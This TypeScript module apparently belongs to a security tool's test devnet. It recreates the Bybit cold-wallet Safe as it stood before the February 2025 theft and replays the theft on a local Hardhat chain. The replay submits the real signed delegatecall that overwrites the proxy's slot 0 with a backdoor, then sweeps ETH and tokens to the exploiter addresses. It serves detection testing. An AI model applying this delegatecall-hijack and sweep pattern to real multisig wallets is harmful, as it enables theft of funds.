import { createRequire } from 'node:module'
import { encodeFunctionData, getAddress, numberToHex, pad, parseAbi, parseEther } from 'viem'
import { BaseError } from '../../core/BaseError.js'
import type { Address, Hex } from '../../core/hex.js'
import { encodeExecTransaction } from '../../safe/encodeSafeCalls.js'
import { hashSafeDomain } from '../../safe/hashSafeDomain.js'
import { hashSafeTx } from '../../safe/hashSafeTx.js'
import { ownersSlot, SAFE_STORAGE_SLOTS, SENTINEL } from '../../safe/storageSlots.js'
import type { SafeTx } from '../../safe/types.js'
import { devnetContract } from '../devnetContract.js'
import { sendAs } from '../execSafeTransaction.js'
import { installSafeContracts, safeContractAddress } from '../installSafeContracts.js'
import { placeContract } from '../placeContract.js'
import type { Devnet } from '../startDevnet.js'
import { scenarioGenesisDate } from './scenarioGenesisDate.js'

const requireCjs = createRequire(import.meta.url)

/**
 * Public facts of the Bybit theft of 21 Feb 2025 (shared/data/README.md and
 * shared/data/bybit/bybit_eth_addresses.tsv, which name their sources: DeFiHackLabs Bybit_exp.sol,
 * tayvano/lazarus-bluenoroff-research, the Verichains preliminary report).
 */
export const BYBIT = {
  chainId: 1,
  safe: '0x1Db92e2EeBC8E0c075a02BeA49a2935BcD2dFCF4',
  singleton: '0x34CfAC646f301356fAa8B21e94227e3583Fe3F5F',
  trojan: '0x96221423681A6d52E184D440a8eFCEbB105C7242',
  backdoor: '0xbDd077f651EBe7f7b3cE16fe5F2b025BE2969516',
  /** Exploiter EOA: sent execTransaction (nonce 71) and the sweeps. */
  attacker: '0x0fa09C3A328792253f8dee7116848723b72a6d2e',
  /** Funded the attacker EOA on 2025-02-18 (tsv: "funder of exploiter EOA"). */
  attackerFunder: '0xE8B36709dd86893bf7BB78A7F9746b826F0E8C84',
  /** "Bybit Exploiter 1": received the ETH and stETH sweeps. */
  exploiter1: '0x47666Fab8bd0Ac7003bce3f5C3585383F09486E2',
  /** tsv: stETH/mETH holder (90,375 stETH + 8,000 mETH), swapped LSTs to ETH on DEXs. */
  lstHolder: '0xA4B2Fd68593B6F34E51cB9eDB66E71c1B4Ab449e',
  /** tsv: received 15,000 cmETH. */
  cmethHolder: '0x1542368a03ad1f03d96D51B414f4738961Cf4443',
  /** The three owners who signed nonce 71 (eth_sign signatures, v = 31/32). */
  signers: [
    '0x1F4EB0a903619ac168b19A82F1a6e2e426522211',
    '0x3Cc3A225769900e003E264dd4CB43E90896BC21A',
    '0xe3dF2cCEAc61B1aFA311372ecC5B40A3A6585a9E',
  ],
  /**
   * The owner set on the day as far as the public record shows: the 3 signers of nonce 71 plus the
   * owners the tsv infers were still owners (proposer 0x8284…, signer of nonce 70 0x2cDD…, signer of
   * nonce 65 0xD367…). Former owners (removed at nonces 55 and 60) are left out.
   */
  owners: [
    '0x1F4EB0a903619ac168b19A82F1a6e2e426522211',
    '0x3Cc3A225769900e003E264dd4CB43E90896BC21A',
    '0xe3dF2cCEAc61B1aFA311372ecC5B40A3A6585a9E',
    '0x828424517F9F04015db02169f4026D57B2B07229',
    '0x2cDD560058D5ac32dc416AAa09Eaf93230c0B7B3',
    '0xD367f8322b64F29faF71dDB5c1877dC9ED6EC644',
  ],
  threshold: 3,
  nonce: 71n,
  /** The intended destination of the benign-looking nonce-71 proposal (tsv, inferred hot wallet). */
  hotWallet: '0x88a1493366D48225fc3cEFbdae9eBb23E323Ade3',
  tokens: {
    stETH: '0xae7ab96520DE3A18E5e111B5EaAb095312D7fE84',
    mETH: '0xd5F7838F5C461fefF7FE49ea5ebaF7728bB0ADfa',
    cmETH: '0xE6829d9a7eE3040e1276Fa75293Bde931859e8fA',
  },
  /** 401,346.7688 ETH and 90,375.5479 stETH (tsv row of 0x4766…); mETH/cmETH rounded as the tsv gives them. */
  balances: {
    eth: parseEther('401346.7688'),
    stETH: parseEther('90375.5479'),
    mETH: parseEther('8000'),
    cmETH: parseEther('15000'),
  },
  mainnet: {
    execTransactionHash: '0x46deef0f52e3a983b67abf4714448a41dd7ffd6d32d32da69d62081c68ad7882',
    execBlock: 21895238,
    sweepBlock: 21895251,
  },
  safeTx: {
    to: '0x96221423681A6d52E184D440a8eFCEbB105C7242',
    value: 0n,
    data: '0xa9059cbb000000000000000000000000bdd077f651ebe7f7b3ce16fe5f2b025be29695160000000000000000000000000000000000000000000000000000000000000000',
    operation: 1,
    safeTxGas: 45746n,
    baseGas: 0n,
    gasPrice: 0n,
    gasToken: '0x0000000000000000000000000000000000000000',
    refundReceiver: '0x0000000000000000000000000000000000000000',
    nonce: 71n,
  } satisfies SafeTx as SafeTx,
  safeTxHash: '0xb3476d061aeb8fc1d605a873c483a2402d88a68a9cdd1a8b47655dd55ba004f8',
  signatures:
    '0xd0afef78a52fd504479dc2af3dc401334762cbd05609c7ac18db9ec5abf4a07a5cc09fc86efd3489707b89b0c729faed616459189cb50084f208d03b201b001f1f0f62ad358d6b319d3c1221d44456080068fe02ae5b1a39b4afb1e6721ca7f9903ac523a801533f265231cd35fc2dfddc3bd9a9563b51315cf9d5ff23dc6d2c221fdf9e4b878877a8dbeee951a4a31ddbf1d3b71e127d5eda44b4730030114baba52e06dd23da37cd2a07a6e84f9950db867374a0f77558f42adf4409bfd569673c1f',
} as const

/** A good genesis date for a Bybit replay: the morning of 21 Feb 2025, before the theft (14:13:35 UTC). */
export const BYBIT_GENESIS_DATE = scenarioGenesisDate('bybit')
const EXEC_TIME = Date.parse('2025-02-21T14:13:35Z') / 1000

export type BybitSetup = {
  safe: Address
  safeVersion: '1.1.1'
  safeTx: SafeTx
  safeTxHash: Hex
  signatures: Hex
  owners: readonly Address[]
  threshold: number
  tokens: { stETH: Address; mETH: Address; cmETH: Address }
  addresses: Record<string, Address>
}

const tokenAbi = parseAbi([
  'function init(string name, string symbol, uint8 decimals, address minter)',
  'function mint(address to, uint256 amount)',
  'function balanceOf(address) view returns (uint256)',
])

/**
 * Recreates the Bybit cold wallet as it stood before the theft: the 1.1.1 Safe proxy at its mainnet
 * address pointing at the canonical 1.1.1 singleton, the owners, threshold 3 and nonce 71 written
 * directly into storage (slots from src/safe/storageSlots.ts), the cached 1.1.1 domain separator,
 * 401,346.7688 ETH and stETH/mETH/cmETH-like tokens at the real token addresses, and contracts that
 * behave as the attacker's at 0x9622…7242 and 0xbDd0…9516. Installs the Safe contracts if needed.
 * The real SafeTx and signatures are returned; their safeTxHash is checked to equal the mainnet one.
 *
 * @example
 * const devnet = await startDevnet({ initialDate: BYBIT_GENESIS_DATE })
 * const bybit = await setupBybit(devnet)
 * bybit.safeTxHash // '0xb3476d06…'
 */
export async function setupBybit(devnet: Devnet): Promise<BybitSetup> {
  if (!devnet.addresses['safe-1.1.1/singleton']) await installSafeContracts(devnet)
  const { safeTxHash } = hashSafeTx(
    { chainId: BigInt(devnet.chainId), safe: BYBIT.safe, version: '1.1.1' },
    BYBIT.safeTx,
  )
  if (safeTxHash !== BYBIT.safeTxHash)
    throw new BaseError(`Bybit safeTxHash mismatch: ${safeTxHash}`, {
      code: 'DEVNET_SCENARIO_BROKEN',
    })
  if (getAddress(safeContractAddress('1.1.1', 'singleton')) !== BYBIT.singleton)
    throw new BaseError('1.1.1 singleton is not at its canonical address', {
      code: 'DEVNET_SCENARIO_BROKEN',
    })

  // The proxy as the 1.1.1 ProxyFactory creates it (the Bybit Safe is such a proxy).
  const proxy = (
    requireCjs('safe-contracts-1.1.1/build/contracts/Proxy.json') as { deployedBytecode: Hex }
  ).deployedBytecode
  const set = (slot: Hex, value: Hex) =>
    devnet.request('hardhat_setStorageAt', [BYBIT.safe, slot, pad(value)])
  await devnet.request('hardhat_setCode', [BYBIT.safe, proxy])
  await set(SAFE_STORAGE_SLOTS.singleton, BYBIT.singleton)
  const chain = [SENTINEL, ...BYBIT.owners, SENTINEL] as Address[]
  for (let i = 0; i < chain.length - 1; i++)
    await set(ownersSlot(chain[i] as Address), chain[i + 1] as Address)
  await set(SAFE_STORAGE_SLOTS.ownerCount, numberToHex(BYBIT.owners.length))
  await set(SAFE_STORAGE_SLOTS.threshold, numberToHex(BYBIT.threshold))
  await set(SAFE_STORAGE_SLOTS.nonce, numberToHex(BYBIT.nonce))
  // 1.1.1 computes the domain separator once in setup() and reads it from storage afterwards.
  await set(
    SAFE_STORAGE_SLOTS.domainSeparator,
    hashSafeDomain({ chainId: BigInt(devnet.chainId), safe: BYBIT.safe, version: '1.1.1' }),
  )
  await devnet.request('hardhat_setBalance', [BYBIT.safe, numberToHex(BYBIT.balances.eth)])

  // Tokens at the real stETH/mETH/cmETH addresses. Minting emits Transfer(0x0 -> Safe).
  const minter = devnet.accounts[0]?.address as Address
  const tokenCode = devnetContract('DevToken').deployedBytecode
  const names = {
    stETH: 'Liquid staked Ether 2.0 (devnet)',
    mETH: 'mETH (devnet)',
    cmETH: 'cmETH (devnet)',
  } as const
  for (const symbol of ['stETH', 'mETH', 'cmETH'] as const) {
    const token = BYBIT.tokens[symbol]
    await devnet.request('hardhat_setCode', [token, tokenCode])
    await sendAs(devnet, minter, {
      to: token,
      data: encodeFunctionData({
        abi: tokenAbi,
        functionName: 'init',
        args: [names[symbol], symbol, 18, minter],
      }),
    })
    await sendAs(devnet, minter, {
      to: token,
      data: encodeFunctionData({
        abi: tokenAbi,
        functionName: 'mint',
        args: [BYBIT.safe, BYBIT.balances[symbol]],
      }),
    })
  }

  // The attacker's two contracts, ours in behaviour: see src/devnet/contracts/*.sol.
  await devnet.request('hardhat_setCode', [
    BYBIT.trojan,
    devnetContract('SlotZeroWriter').deployedBytecode,
  ])
  await placeContract(devnet, BYBIT.backdoor, {
    ...devnetContract('SweepBackdoor'),
    args: [BYBIT.attacker],
  })

  const addresses: Record<string, Address> = {
    'bybit/safe': BYBIT.safe,
    'bybit/singleton': BYBIT.singleton,
    'bybit/trojan': BYBIT.trojan,
    'bybit/backdoor': BYBIT.backdoor,
    'bybit/attacker': BYBIT.attacker,
    'bybit/exploiter1': BYBIT.exploiter1,
    'bybit/stETH': BYBIT.tokens.stETH,
    'bybit/mETH': BYBIT.tokens.mETH,
    'bybit/cmETH': BYBIT.tokens.cmETH,
  }
  Object.assign(devnet.addresses, addresses)
  return {
    safe: BYBIT.safe,
    safeVersion: '1.1.1',
    safeTx: BYBIT.safeTx,
    safeTxHash,
    signatures: BYBIT.signatures,
    owners: BYBIT.owners,
    threshold: BYBIT.threshold,
    tokens: BYBIT.tokens,
    addresses,
  }
}

export type BybitTheftResult = {
  /** Funding of the attacker EOA by its funder (1 ETH), as on 2025-02-18. */
  fundingTransactionHash: Hex
  execTransactionHash: Hex
  execBlock: bigint
  sweepTransactionHashes: { eth: Hex; stETH: Hex; mETH: Hex; cmETH: Hex }
  /** 13 blocks after execBlock, as on mainnet (21,895,238 -> 21,895,251). */
  sweepBlock: bigint
  stolen: { eth: bigint; stETH: bigint; mETH: bigint; cmETH: bigint }
}

const backdoorAbi = parseAbi([
  'function sweepETH(address destination)',
  'function sweepERC20(address token, address destination)',
])

async function headTimestamp(devnet: Devnet): Promise<number> {
  const block = (await devnet.request('eth_getBlockByNumber', ['latest', false])) as {
    timestamp: Hex
  }
  return Number(BigInt(block.timestamp))
}

async function receiptOf(devnet: Devnet, hash: Hex) {
  const receipt = (await devnet.request('eth_getTransactionReceipt', [hash])) as {
    status: Hex
    blockNumber: Hex
  } | null
  if (receipt?.status !== '0x1')
    throw new BaseError('scenario transaction failed', {
      code: 'DEVNET_SCENARIO_BROKEN',
      details: hash,
    })
  return receipt
}

/**
 * Replays the theft: the attacker EOA submits the real `execTransaction` with the real signatures
 * (valid on the devnet because the 1.1.1 domain has no chainId), which DELEGATECALLs the trojan and
 * sets the Safe's slot 0 to the backdoor; 13 blocks later the attacker calls `sweepETH` and
 * `sweepERC20` in one block: ETH and stETH to 0x4766…86E2, mETH to 0xA4B2…449e and cmETH to
 * 0x1542…4443 (destinations per the tsv). The Safe's ETH and token balances end at exactly zero.
 * Uses the real time of day (14:13:35 UTC) when the chain is still before it.
 *
 * @example
 * await setupBybit(devnet)
 * const theft = await executeBybitTheft(devnet)
 * theft.sweepBlock - theft.execBlock // 13n
 */
export async function executeBybitTheft(devnet: Devnet): Promise<BybitTheftResult> {
  const fundingTransactionHash = await sendAs(devnet, BYBIT.attackerFunder, {
    to: BYBIT.attacker,
    value: parseEther('1'),
  })
  await receiptOf(devnet, fundingTransactionHash)

  const head = await headTimestamp(devnet)
  await devnet.request('evm_setNextBlockTimestamp', [numberToHex(Math.max(EXEC_TIME, head + 12))])
  const data = encodeExecTransaction(BYBIT.safeTx, BYBIT.signatures)
  const execTransactionHash = await sendAs(devnet, BYBIT.attacker, { to: BYBIT.safe, data })
  const execBlock = BigInt((await receiptOf(devnet, execTransactionHash)).blockNumber)
  const slot0 = (await devnet.request('eth_getStorageAt', [
    BYBIT.safe,
    SAFE_STORAGE_SLOTS.singleton,
    'latest',
  ])) as Hex
  if (getAddress(`0x${slot0.slice(-40)}`) !== BYBIT.backdoor)
    throw new BaseError('execTransaction did not overwrite slot 0', {
      code: 'DEVNET_SCENARIO_BROKEN',
      details: execTransactionHash,
    })

  const stolen = {
    eth: BigInt((await devnet.request('eth_getBalance', [BYBIT.safe, 'latest'])) as Hex),
    stETH: await tokenBalance(devnet, BYBIT.tokens.stETH, BYBIT.safe),
    mETH: await tokenBalance(devnet, BYBIT.tokens.mETH, BYBIT.safe),
    cmETH: await tokenBalance(devnet, BYBIT.tokens.cmETH, BYBIT.safe),
  }

  // 12 empty blocks of 12 s, then the four sweeps together in the 13th block. Mined one by one:
  // EDR's `hardhat_mine` reserves the blocks and reports a zero parentHash for them, a chain that
  // a parent-hash-checking follower (heistguard watch) rightly refuses to walk.
  let time = await headTimestamp(devnet)
  for (let i = 0; i < 12; i++) {
    time += 12
    await devnet.request('evm_mine', [time])
  }
  await devnet.request('evm_setAutomine', [false])
  let sweepTransactionHashes: BybitTheftResult['sweepTransactionHashes']
  try {
    const sweep = (
      args:
        | { functionName: 'sweepETH'; args: [Address] }
        | { functionName: 'sweepERC20'; args: [Address, Address] },
    ) =>
      sendAs(devnet, BYBIT.attacker, {
        to: BYBIT.safe,
        data: encodeFunctionData({ abi: backdoorAbi, ...args }),
        gas: '0x30d40',
      })
    sweepTransactionHashes = {
      eth: await sweep({ functionName: 'sweepETH', args: [BYBIT.exploiter1] }),
      stETH: await sweep({
        functionName: 'sweepERC20',
        args: [BYBIT.tokens.stETH, BYBIT.exploiter1],
      }),
      mETH: await sweep({ functionName: 'sweepERC20', args: [BYBIT.tokens.mETH, BYBIT.lstHolder] }),
      cmETH: await sweep({
        functionName: 'sweepERC20',
        args: [BYBIT.tokens.cmETH, BYBIT.cmethHolder],
      }),
    }
    await devnet.request('evm_mine', [])
  } finally {
    await devnet.request('evm_setAutomine', [true])
  }
  let sweepBlock = 0n
  for (const hash of Object.values(sweepTransactionHashes))
    sweepBlock = BigInt((await receiptOf(devnet, hash)).blockNumber)
  return {
    fundingTransactionHash,
    execTransactionHash,
    execBlock,
    sweepTransactionHashes,
    sweepBlock,
    stolen,
  }
}

async function tokenBalance(devnet: Devnet, token: Address, holder: Address): Promise<bigint> {
  const data = encodeFunctionData({ abi: tokenAbi, functionName: 'balanceOf', args: [holder] })
  return BigInt((await devnet.request('eth_call', [{ to: token, data }, 'latest'])) as Hex)
}
